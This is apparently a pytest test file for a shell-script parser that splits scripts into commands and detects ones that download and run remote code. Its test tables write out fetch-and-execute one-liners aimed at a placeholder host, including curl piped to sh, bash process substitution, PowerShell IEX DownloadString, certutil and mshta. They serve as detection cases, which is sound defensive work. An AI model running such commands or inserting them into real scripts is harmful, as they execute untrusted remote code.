import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from picketline.packages.shell import MOST_COMMANDS, Command, commands
from picketline.packages.shell_runs import Started, fetches_and_runs, started

law = settings(max_examples=150, deadline=None, derandomize=True, database=None)
_PIECES = st.sampled_from(
    [
        *(
            "curl",
            "sh",
            "-c",
            "node",
            "-e",
            "$(",
            ")",
            "`",
            '"',
            "'",
            "|",
            "&&",
            ";",
            "\n",
            "<<EOF",
        ),
        *(
            "EOF",
            ">",
            ">>",
            "<(",
            "{",
            "}",
            "if",
            "then",
            "fi",
            "$",
            "\\",
            "cmd /c",
            "eval",
            " ",
            "(",
        ),
    ]
)


@pytest.mark.parametrize(
    ("script", "argvs"),
    [
        ("node a.js", [("node", "a.js")]),
        ("A=1 B='x y' node a.js", [("node", "a.js")]),
        ("cross-env A=1 node a.js && npm run b", [("node", "a.js"), ("npm", "run", "b")]),
        ("sudo -E nohup ./x &", [("./x",)]),
        ("env A=1 node 'a b.js'", [("node", "a b.js")]),
        ("if [ -f x ]; then ./y; fi", [("./y",)]),
        ("sh -c 'node a.js; ls'", [("sh", "-c", "node a.js; ls"), ("node", "a.js"), ("ls",)]),
        ('cmd /c "node a.js"', [("cmd", "/c", "node a.js"), ("node", "a.js")]),
        (r".\bin\x.exe --y", [("./bin/x.exe", "--y")]),
        ("node -e \"console.log('a')\"", [("node", "-e", "console.log('a')")]),
        ("", []),
    ],
)
def test_the_words_of_commands(script: str, argvs: list[tuple[str, ...]]) -> None:
    """Assignments, wrappers and quotes are taken off; scripts inside are read too."""
    assert [one.argv for one in commands(script)] == argvs


def test_pipes_and_files_are_told() -> None:
    """A command knows what its output goes through, and the files that it goes to."""
    first, second, third = commands("curl x | base64 -d | sh > /tmp/log 2>&1")
    assert first == Command(("curl", "x"), (("base64", "-d"), ("sh",)), "curl x", first.writes)
    assert (second.pipes_to, third.pipes_to) == ((("sh",),), ())
    assert "/tmp/log" in third.writes


@pytest.mark.parametrize(
    ("script", "tool"),
    [
        ("curl -s https://x | sh", "curl"),
        ("curl https://x | tee a | sudo bash -s", "curl"),
        ('bash -c "$(wget -qO- https://x)"', "wget"),
        ("bash <(curl -s https://x)", "curl"),
        ("eval `curl https://x`", "curl"),
        ("curl -o a.sh https://x && sh a.sh", "curl"),
        ("curl https://x > /tmp/a; chmod +x /tmp/a; /tmp/a", "curl"),
        (
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://x')\"",
            "powershell",
        ),
        ("certutil -urlcache -f https://x/a.exe a.exe && a.exe", "certutil"),
        ("mshta https://x/a.hta", "mshta"),
        ("deno run https://x/a.ts", ""),
        ("curl https://x | jq .", ""),
        ("curl -O https://x/a.zip && unzip a.zip", ""),
        ("node a.js | sh", ""),
        ("echo 'curl x | sh'", ""),
    ],
)
def test_what_is_fetched_and_run(script: str, tool: str) -> None:
    """A tool that fetches, and an interpreter that gets what it fetched."""
    found = fetches_and_runs(commands(script))
    assert found == tool or (tool == "" and found == "deno")


@pytest.mark.parametrize(
    ("script", "runs"),
    [
        ("node ./a.js", Started("file", "./a.js", "node")),
        ("node -r ./b.js", Started("file", "./b.js", "node")),
        ("node -e 'x()'", Started("code", "x()", "node")),
        ("npm run build", Started("script", "build", "npm")),
        ("yarn build", Started("script", "build", "yarn")),
        ("npx -y foo@1", Started("tool", "foo@1", "npx")),
        ("bun run index.ts", Started("file", "index.ts", "bun")),
        ("python3 setup.py", Started("file", "setup.py", "python3")),
        ("./run.sh", Started("file", "./run.sh", "")),
    ],
)
def test_what_a_command_runs(script: str, runs: Started) -> None:
    """A file, code, an npm script or a tool."""
    assert started(commands(script)) == (runs,)


@law
@given(st.lists(_PIECES | st.text(max_size=4), max_size=30).map(" ".join))
def test_no_script_raises(script: str) -> None:
    """Any text gives commands of at least one word, the same twice."""
    found = commands(script)
    assert found == commands(script)
    assert all(one.argv for one in found)
    fetches_and_runs(found)
    started(found)


@pytest.mark.parametrize(
    "unit", ["$(", "sh -c '", "a | ", "`", '"', "a;", "{ ", "<<E\n", "(", "if a; then "]
)
def test_a_long_script_is_bounded(unit: str) -> None:
    """Nesting and length of any kind end, with a bounded number of commands."""
    assert len(commands(unit * 20_000)) <= MOST_COMMANDS
